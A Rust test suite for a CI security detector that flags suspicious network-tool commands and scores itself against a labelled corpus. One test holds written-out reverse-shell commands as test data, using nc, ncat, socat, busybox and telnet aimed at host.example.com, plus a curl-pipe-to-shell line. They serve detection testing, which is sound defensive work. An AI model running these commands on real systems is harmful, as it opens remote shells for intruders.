//! The detector against labelled command lines: the table of commands, and the
//! corpus through the real program.

use buildwarden::detect::{Context, Detector, Importance, Policy, PolicyFile, Recipe};
use buildwarden::event::{Argv, Exec, Flags};
use serde::Deserialize;
use std::collections::BTreeMap;
use std::path::PathBuf;
use std::process::Command;

/// Verdicts that differ from their label and are defended, by id, with the reason.
const DEFENDED: [(&str, &str); 0] = [];

fn flat<T: AsRef<[u8]>>(words: &[T]) -> Vec<u8> {
    words.iter().flat_map(|word| [word.as_ref(), b"\0"].concat()).collect()
}

fn context() -> Context<'static> {
    Context { now: jiff::Timestamp::UNIX_EPOCH, job: Some("org/app/main") }
}

/// The verdict of the first recipe, and the addresses in their order.
fn judge(
    detector: &Detector,
    exe: &str,
    argv: &[u8],
    flags: Flags,
) -> (Option<Importance>, Vec<String>) {
    let exec = Exec {
        path: exe.as_bytes(),
        name: exe.as_bytes(),
        argv: Argv(argv),
        flags,
        ..Exec::default()
    };
    let judgement = detector.judge(&exec, &context());
    match judgement.findings.iter().find(|finding| finding.recipe == "net_suspicious_tool_exec") {
        None => (None, Vec::new()),
        Some(finding) => (
            Some(finding.importance),
            finding.addresses.iter().map(|address| address.address.clone()).collect(),
        ),
    }
}

/// Splits a line of the table at blanks outside quotes.
fn words(line: &str) -> Vec<String> {
    let mut words: Vec<String> = Vec::new();
    let mut word: Option<String> = None;
    let mut quoted = false;
    for char in line.replace("\\t", "\t").chars() {
        match char {
            '\'' => {
                quoted = !quoted;
                word.get_or_insert_default();
            }
            ' ' if !quoted => words.extend(word.take()),
            _ => word.get_or_insert_default().push(char),
        }
    }
    words.extend(word);
    words
}

#[test]
fn commands_are_read_as_their_tools_read_them() {
    let detector = Detector::builtin();
    let table = include_str!("fixtures/commands.txt");
    let mut wrong = Vec::new();
    let mut cases = 0;
    for (number, line) in table.lines().enumerate() {
        let Some((want, command)) = line.split_once(" | ") else { continue };
        cases += 1;
        let (command, more) = command.split_once(" # ").unwrap_or((command, ""));
        let (exe, command) = match command.strip_prefix("[/").and_then(|rest| rest.split_once("] "))
        {
            Some((exe, command)) => (Some(format!("/{exe}")), command),
            None => (None, command),
        };
        let argv = words(command);
        let exe = exe.unwrap_or_else(|| format!("/usr/bin/{}", argv[0]));
        let (_, mut got) = judge(&detector, &exe, &flat(&argv), Flags::default());
        let mut want: Vec<&str> = want
            .split(',')
            .chain(more.split(','))
            .filter(|address| !matches!(*address, "" | "-"))
            .collect();
        got.sort();
        got.dedup();
        want.sort();
        if got != want {
            wrong.push(format!("line {}: {command}\n  want {want:?}\n  got  {got:?}", number + 1));
        }
    }
    assert!(wrong.is_empty(), "{} of {cases}:\n{}", wrong.len(), wrong.join("\n"));
    assert!(cases > 400, "only {cases} cases were read");
}

#[derive(Deserialize)]
struct Labelled {
    id: String,
    exe: String,
    argv: Vec<String>,
    expect: String,
    addresses: Vec<String>,
    class: String,
    why: String,
}

#[derive(Deserialize)]
struct Answer {
    id: String,
    verdict: String,
    addresses: Vec<String>,
}

#[derive(Default)]
struct Score {
    hit: usize,
    false_alarm: usize,
    miss: usize,
    quiet: usize,
    severity: usize,
}

impl Score {
    fn add(&mut self, want: &str, got: &str) {
        match (want == "none", got == "none") {
            (false, false) => self.hit += 1,
            (true, false) => self.false_alarm += 1,
            (false, true) => self.miss += 1,
            (true, true) => self.quiet += 1,
        }
        self.severity += usize::from(want != "none" && got != "none" && want != got);
    }

    fn line(&self) -> String {
        let ratio =
            |part: usize, whole: usize| if whole == 0 { 1.0 } else { part as f64 / whole as f64 };
        let precision = ratio(self.hit, self.hit + self.false_alarm);
        let recall = ratio(self.hit, self.hit + self.miss);
        let f1 = if precision + recall == 0.0 {
            0.0
        } else {
            2.0 * precision * recall / (precision + recall)
        };
        let all = self.hit + self.false_alarm + self.miss + self.quiet;
        format!(
            "{all:5}  precision {precision:.3}  recall {recall:.3}  F1 {f1:.3}  wrong severity {}",
            self.severity
        )
    }
}

fn corpus_path() -> PathBuf {
    std::env::var_os("BUILDWARDEN_CORPUS").map_or_else(
        || PathBuf::from(concat!(env!("CARGO_MANIFEST_DIR"), "/../shared/corpus/open.jsonl")),
        PathBuf::from,
    )
}

#[test]
fn the_corpus_is_judged_as_labelled() {
    let path = corpus_path();
    let text = std::fs::read_to_string(&path).unwrap_or_else(|error| {
        panic!(
            "corpus {}: {error}; set BUILDWARDEN_CORPUS to the labelled JSON Lines file",
            path.display()
        )
    });
    let labelled: Vec<Labelled> =
        text.lines().map(|line| serde_json::from_str(line).expect(line)).collect();
    let output = Command::new(env!("CARGO_BIN_EXE_buildwarden"))
        .args(["check", "--batch"])
        .arg(&path)
        .output()
        .expect("run buildwarden");
    assert!(
        output.status.success(),
        "{}: {}",
        output.status,
        String::from_utf8_lossy(&output.stderr)
    );
    let answers: Vec<Answer> = output
        .stdout
        .split(|byte| *byte == b'\n')
        .filter(|line| !line.is_empty())
        .map(|line| serde_json::from_slice(line).expect("an answer"))
        .collect();
    assert_eq!(answers.len(), labelled.len());

    let detector = Detector::builtin();
    let mut overall = Score::default();
    let mut classes: BTreeMap<&str, Score> = BTreeMap::new();
    let mut wrong = Vec::new();
    for (case, answer) in labelled.iter().zip(&answers) {
        assert_eq!(case.id, answer.id);
        let (importance, addresses) =
            judge(&detector, &case.exe, &flat(&case.argv), Flags::default());
        assert_eq!(
            importance.map_or("none", Importance::name),
            answer.verdict,
            "{}: library and program disagree",
            case.id
        );
        assert_eq!(addresses.is_empty(), answer.addresses.is_empty(), "{}", case.id);
        classes.entry(&case.class).or_default().add(&case.expect, &answer.verdict);
        if case.class.starts_with("amb-") {
            continue;
        }
        overall.add(&case.expect, &answer.verdict);
        let (mut want, mut got) = (case.addresses.clone(), answer.addresses.clone());
        want.sort();
        got.sort();
        let defended = DEFENDED.iter().any(|(id, _)| *id == case.id);
        if (case.expect != answer.verdict || want != got) && !defended {
            wrong.push(format!(
                "{} {} ({}): want {} {want:?}, got {} {got:?}",
                case.id, case.class, case.why, case.expect, answer.verdict
            ));
        }
    }
    for (class, score) in &classes {
        println!("{class:24} {}", score.line());
    }
    println!("{:24} {}", "overall (without amb-)", overall.line());
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn malformed_lines_of_a_batch_are_answered_and_the_rest_goes_on() {
    use std::io::Write;
    use std::process::Stdio;
    let mut child = Command::new(env!("CARGO_BIN_EXE_buildwarden"))
        .args(["check", "--batch", "-"])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .expect("run buildwarden");
    let input = concat!(
        r#"{"id":"a","exe":"/usr/bin/curl","argv":["curl","8.8.8.8"],"more":1}"#,
        "\nnot json\n{\"id\":\"b\"}\n",
        r#"{"id":"c","exe":"/usr/bin/curl","argv":["curl","\u0000"]}"#,
        "\n",
        r###"{"id":"##[x]","exe":"/usr/bin/nc","argv":[]}"###,
        "\n",
    );
    child.stdin.take().expect("stdin").write_all(input.as_bytes()).expect("write");
    let output = child.wait_with_output().expect("wait");
    assert_eq!(output.status.code(), Some(12));
    // What would be a command to a CI system's runner is written out.
    assert!(memchr::memmem::find(&output.stdout, br"##\u005bx]").is_some());
    let lines: Vec<serde_json::Value> = output
        .stdout
        .split(|byte| *byte == b'\n')
        .filter(|line| !line.is_empty())
        .map(|line| serde_json::from_slice(line).expect("JSON"))
        .collect();
    assert_eq!(lines.len(), 5);
    assert_eq!(
        lines[0],
        serde_json::json!({"id": "a", "verdict": "critical", "tool": "curl", "addresses": ["8.8.8.8"]})
    );
    for malformed in &lines[1..4] {
        assert!(malformed["id"].is_null() && malformed["error"].is_string(), "{malformed}");
    }
    assert_eq!(
        lines[4],
        serde_json::json!({"id": "##[x]", "verdict": "none", "tool": "nc", "addresses": []})
    );
}

#[test]
fn a_script_is_its_interpreter_and_not_its_name() {
    let detector = Detector::builtin();
    let cases: [(&str, &str, &[&str], Flags, bool); 5] = [
        (
            "/bin/dash",
            "/usr/bin/curl",
            &["/bin/sh", "/usr/bin/curl", "8.8.8.8"],
            Flags::SCRIPT,
            false,
        ),
        ("/usr/bin/curl", "/tmp/script", &["/usr/bin/curl", "8.8.8.8"], Flags::SCRIPT, true),
        ("/tmp/x", "/usr/bin/curl", &["y", "8.8.8.8"], Flags(0), true),
        (
            "/usr/bin/qemu-aarch64-static",
            "/usr/bin/nc",
            &["/usr/bin/qemu-aarch64-static", "/usr/bin/nc", "nc", "8.8.8.8", "80"],
            Flags::SCRIPT,
            true,
        ),
        (
            "/usr/bin/qemu-aarch64-static",
            "/usr/bin/nc",
            &["/usr/bin/qemu-aarch64-static", "/usr/bin/nc", "8.8.8.8", "80"],
            Flags::SCRIPT,
            true,
        ),
    ];
    for (path, name, argv, flags, want) in cases {
        let argv = flat(argv);
        let exec = Exec {
            path: path.as_bytes(),
            name: name.as_bytes(),
            argv: Argv(&argv),
            flags,
            ..Exec::default()
        };
        assert_eq!(
            !detector.judge(&exec, &context()).findings.is_empty(),
            want,
            "{path} as {name}"
        );
    }
}

#[test]
fn a_tool_that_starts_a_shell_is_critical() {
    let detector = Detector::builtin();
    let cases: [(&str, &[&str], bool); 16] = [
        ("/bin/nc.traditional", &["nc", "-e", "/bin/sh", "host.example.com", "44"], true),
        ("/bin/nc.traditional", &["nc", "-c", "exec bash -i", "host.example.com", "44"], true),
        ("/bin/nc.traditional", &["nc", "-e", "/bin/cat", "host.example.com", "44"], false),
        ("/usr/bin/ncat", &["ncat", "--sh-exec", "sudo -u x sh", "host.example.com"], true),
        ("/usr/bin/ncat", &["ncat", "--exec=/bin/bash", "host.example.com"], true),
        ("/usr/bin/ncat", &["ncat", "-l", "80", "--sh-exec", "date"], false),
        ("/usr/bin/socat", &["socat", "TCP:host.example.com:1", "EXEC:bash -li,pty,stderr"], true),
        (
            "/usr/bin/socat",
            &["socat", "TCP:host.example.com:1", "exec:'bash -li',pty,stderr"],
            true,
        ),
        ("/usr/bin/socat", &["socat", "TCP:host.example.com:1", "SYSTEM:sh"], true),
        ("/usr/bin/socat", &["socat", "TCP:host.example.com:1", "EXEC:cat"], false),
        ("/bin/busybox", &["busybox", "nc", "host.example.com", "1", "-e", "/bin/sh"], true),
        ("/bin/busybox", &["nc", "host.example.com", "1", "-e", "busybox", "sh"], true),
        (
            "/bin/dash",
            &["sh", "-c", "telnet host.example.com 1 | /bin/sh | telnet host.example.com 2"],
            true,
        ),
        ("/bin/dash", &["sh", "-c", "curl https://sh.example.com | sh"], false),
        ("/bin/dash", &["sh", "-c", "echo a | cat"], false),
        ("/usr/bin/ssh", &["ssh", "host.example.com", "bash -s"], false),
    ];
    for (path, argv, want) in cases {
        let bytes = flat(argv);
        let exec = Exec {
            path: path.as_bytes(),
            name: path.as_bytes(),
            argv: Argv(&bytes),
            ..Exec::default()
        };
        let judgement = detector.judge(&exec, &context());
        let finding =
            judgement.findings.iter().find(|finding| finding.recipe == "net_suspicious_tool_shell");
        assert_eq!(
            finding.map(|finding| finding.importance),
            want.then_some(Importance::Critical),
            "{argv:?}"
        );
    }
}

#[test]
fn the_policy_allows_raises_and_adds() {
    let policy =
        |toml: &str| Policy::resolve(toml::from_str::<PolicyFile>(toml).expect(toml)).expect(toml);
    let medium = Some(Importance::Medium);
    let critical = Some(Importance::Critical);
    let curl: &[&str] = &["curl", "http://10.0.0.1/", "http://8.8.8.8/"];
    let cases: [(&str, &[&str], Option<Importance>, usize); 14] = [
        ("", curl, critical, 0),
        ("allow = [{ cidr = [\"8.8.8.0/24\"], reason = \"ours\" }]", curl, medium, 1),
        ("allow = [{ cidr = [\"0.0.0.0/0\"], reason = \"ours\" }]", curl, None, 2),
        (
            "allow = [{ cidr = [\"8.8.8.8\"], tool = [\"wget\"], reason = \"ours\" }]",
            curl,
            critical,
            0,
        ),
        ("allow = [{ tool = [\"curl\"], reason = \"ours\" }]", curl, None, 2),
        (
            "allow = [{ tool = [\"curl\"], job = [\"org/*/main\"], reason = \"ours\" }]",
            curl,
            None,
            2,
        ),
        (
            "allow = [{ tool = [\"curl\"], job = [\"org/*/test\"], reason = \"ours\" }]",
            curl,
            critical,
            0,
        ),
        (
            "allow = [{ tool = [\"curl\"], reason = \"ours\", expires = \"1969-01-01T00:00:00Z\" }]",
            curl,
            critical,
            0,
        ),
        (
            "allow = [{ tool = [\"curl\"], reason = \"ours\", expires = \"2999-01-01T00:00:00Z\" }]",
            curl,
            None,
            2,
        ),
        (
            "deny = [{ cidr = [\"10.0.0.0/8\"], reason = \"no\" }]",
            &["curl", "http://10.0.0.1/"],
            critical,
            0,
        ),
        (
            "ignore_roles = [\"host header\"]",
            &["curl", "-H", "Host: 8.8.8.8", "http://example.com/"],
            None,
            0,
        ),
        (
            "tool = [{ name = \"axel\", like = \"wget\" }]",
            &["axel", "http://8.8.8.8/"],
            critical,
            0,
        ),
        ("tool = [{ name = \"fetch\" }]", &["fetch", "--from=8.8.8.8:80"], critical, 0),
        ("tool = [{ name = \"fetch\" }]", &["fetch", "--version=8.8.8.8"], None, 0),
    ];
    for (toml, argv, want, allowed) in cases {
        let detector = Detector::new(Detector::builtin_recipes(), policy(toml)).expect(toml);
        let bytes = flat(argv);
        let path = format!("/usr/bin/{}", argv[0]);
        let exec = Exec {
            path: path.as_bytes(),
            name: path.as_bytes(),
            argv: Argv(&bytes),
            ..Exec::default()
        };
        let judgement = detector.judge(&exec, &context());
        assert_eq!(judgement.findings.first().map(|finding| finding.importance), want, "{toml}");
        assert_eq!(judgement.allowed.len(), allowed, "{toml}");
    }
}

#[test]
fn a_recipe_that_cannot_work_is_refused() {
    let good = Recipe::builtin_text("net_suspicious_tool_exec").expect("ships");
    let check = |from: &str, to: &str, want: &str| {
        assert!(good.contains(from), "{from}");
        let text = good.replacen(from, to, 1);
        let error = Recipe::read(&text)
            .and_then(|recipe| Detector::new(vec![recipe], Policy::default()))
            .map(drop)
            .expect_err(to);
        assert!(error.to_string().contains(want), "{to}: {error}");
    };
    check("name = \"net", "name = \"Net", "lower-case letters");
    check("looks-for", "look-for", "look-for");
    check("\"TA0011\"", "\"Tactic 11\"", "no MITRE ATT&CK id");
    check("\"mtr\"", "\"mtrr\"", "has no grammar");
    check("{job}", "{secret}", "unknown placeholder");
    check(
        "description = \"Network suspicious tool\"",
        "description = \"\"",
        "description is empty",
    );
    check("\"by-scope\"", "\"high\"", "unknown variant `high`");
}
